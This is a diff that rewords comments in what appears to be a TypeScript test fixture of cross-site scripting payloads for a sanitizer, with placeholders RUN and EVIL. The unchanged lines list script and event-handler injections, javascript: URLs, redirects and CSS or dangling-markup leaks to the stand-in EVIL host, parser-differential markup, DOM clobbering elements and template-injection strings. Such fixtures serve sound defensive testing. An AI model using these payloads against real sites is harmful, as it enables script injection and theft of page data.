@@ -1,9 +1,9 @@
 /**
- * Markup that runs, loads, sends, leads away or covers something where a text is taken for HTML. `RUN` stands for a
- * call of the canary, `EVIL` for an address of a host that nobody may ask.
+ * Markup that runs, loads, sends, navigates or covers something if a text is used as HTML. `RUN` stands for a call of
+ * the canary, `EVIL` for an address of a host that no page may contact.
  */
 export const markup: readonly string[] = [
-  // Scripts.
+  // Script elements.
   '<script>RUN</script>',
   '"><script>RUN</script>',
   "'><ScRiPt >RUN</sCrIpT >",
@@ -23,7 +23,7 @@ export const markup: readonly string[] = [
   '＜script＞RUN＜/script＞',
   '<script\u0000>RUN</script>',
   '<script\t/x>RUN</script\n>',
-  // Handlers.
+  // Event handlers.
   '<img src=x onerror=RUN>',
   '"><img src=x onerror="RUN">',
   '<img/src/onerror=RUN//',
@@ -64,7 +64,7 @@ export const markup: readonly string[] = [
   "' onmouseover='RUN' x='",
   '` onmouseover=RUN x=`',
   'x onerror=RUN y',
-  // Frames, objects, forms.
+  // Frames, objects and forms.
   '<iframe src=EVIL></iframe>',
   '<iframe src="javascript:parent.RUN"></iframe>',
   '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
@@ -80,7 +80,7 @@ export const markup: readonly string[] = [
   '<input type=image src=EVIL formaction=javascript:RUN>',
   '<button formaction="javascript:RUN" formmethod=post>x</button>',
   '<isindex action=javascript:RUN type=submit>',
-  // What changes the page as a whole.
+  // Markup that changes the page as a whole.
   '<base href=EVIL>',
   '<meta http-equiv=refresh content="0;url=EVIL">',
   '<meta http-equiv=refresh content="0;url=javascript:RUN">',
@@ -96,7 +96,7 @@ export const markup: readonly string[] = [
   '<style>input[value^=a]{background:url(EVIL)}</style>',
   '<template shadowrootmode=open><script>RUN</script><slot></slot></template>',
   '</div></main></body></html><script>RUN</script>',
-  // Markup that a later parser reads otherwise than an earlier one.
+  // Markup that a second parse reads differently from the first one.
   '<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
   '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>',
@@ -119,7 +119,7 @@ export const markup: readonly string[] = [
   '<?php echo "<img src=x onerror=RUN>"; ?>',
   '<//img src=x onerror=RUN>',
   '<a href="x"<img src=x onerror=RUN>',
-  // Never closed: what follows in the page would be carried away.
+  // Unclosed markup, which would include the rest of the page.
   "<img src='EVIL?",
   '<a href="EVIL?',
   '<form action=EVIL><textarea name=x>',
@@ -132,7 +132,7 @@ export const markup: readonly string[] = [
   '<script>/*',
 ]
 
-/** Elements whose names stand in the way of what a page's scripts ask of their document. */
+/** Elements whose names hide properties that scripts read from the document. */
 export const clobbering: readonly string[] = [
   ...['location', 'document', 'attributes', 'body', 'head', 'cookie', 'defaultView', 'children', 'nodeName'],
   ...[
@@ -149,7 +149,7 @@ export const clobbering: readonly string[] = [
   `<form id=${name}><input name=${name}><input name=attributes></form>`,
 ])
 
-/** What an engine of templates would work out. */
+/** Texts that a template engine would evaluate. */
 export const templates: readonly string[] = [
   '{{7*7}}',
   '{{constructor.constructor("RUN")()}}',
@@ -177,7 +177,7 @@ export const templates: readonly string[] = [
   '\\u0022;RUN//',
 ]
 
-/** What is read otherwise where a text is put into a style. */
+/** Texts that change their meaning inside a style. */
 export const styles: readonly string[] = [
   'red;background:url(EVIL)',
   '#00AD5A;background:url(EVIL)',
